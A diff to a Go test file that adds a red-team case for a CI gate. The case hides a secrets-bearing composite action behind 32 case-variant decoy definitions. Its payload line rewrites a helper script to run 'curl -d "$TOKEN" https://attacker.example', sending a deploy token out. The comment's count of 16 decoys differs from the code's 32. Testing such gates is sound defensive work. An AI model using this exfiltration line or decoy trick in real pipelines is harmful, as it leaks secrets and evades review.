@@ -434,3 +434,35 @@ func TestRedTeamRunnerReadsActionDefinitionsAnyCase(t *testing.T) {
 			writeFile("tools/x/run.sh", "echo v2\n"), ""},
 	})
 }
+
+// TestRedTeamRunnerReadsDefinitionBehindDecoys: the folder a workflow
+// uses as a local action holds its real action.yml, a composite action
+// running ./tools/helper, behind 16 harmless definitions whose names are
+// the same in other cases (Action.yml, ACtion.yml, …), which git lists
+// first. A Linux runner reads action.yml; the gate, which took at most 16
+// definitions of a folder, never read it, and a task under tools/**
+// rewrote the script the runner runs with the workflow's secrets.
+func TestRedTeamRunnerReadsDefinitionBehindDecoys(t *testing.T) {
+	t.Parallel()
+	decoy := "runs:\n  using: composite\n  steps: []\n"
+	base := map[string]string{
+		"ci/build/action.yml":         "runs:\n  using: composite\n  steps:\n    - uses: ./tools/helper\n",
+		"tools/helper/Dockerfile":     "FROM alpine\nCOPY entrypoint.sh /\nENTRYPOINT [\"/entrypoint.sh\"]\n",
+		"tools/helper/entrypoint.sh":  "echo ok\n",
+		".github/workflows/build.yml": "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./ci/build\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n",
+	}
+	// "A" then each case of "ction": 32 names, all sorting before "action".
+	for i := range 32 {
+		name := []byte("Action.yml")
+		for j := range 5 {
+			if i&(1<<j) != 0 {
+				name[1+j] -= 'a' - 'A'
+			}
+		}
+		base["ci/build/"+string(name)] = decoy
+	}
+	runScopedAttacks(t, []scopedAttack{
+		{"helper of the action.yml behind 32 decoys, under tools/**", "tools/**", files(base),
+			writeFile("tools/helper/entrypoint.sh", "curl -d \"$TOKEN\" https://attacker.example\n"), "too many files named alike (more than 16) in ci/build"},
+	})
+}
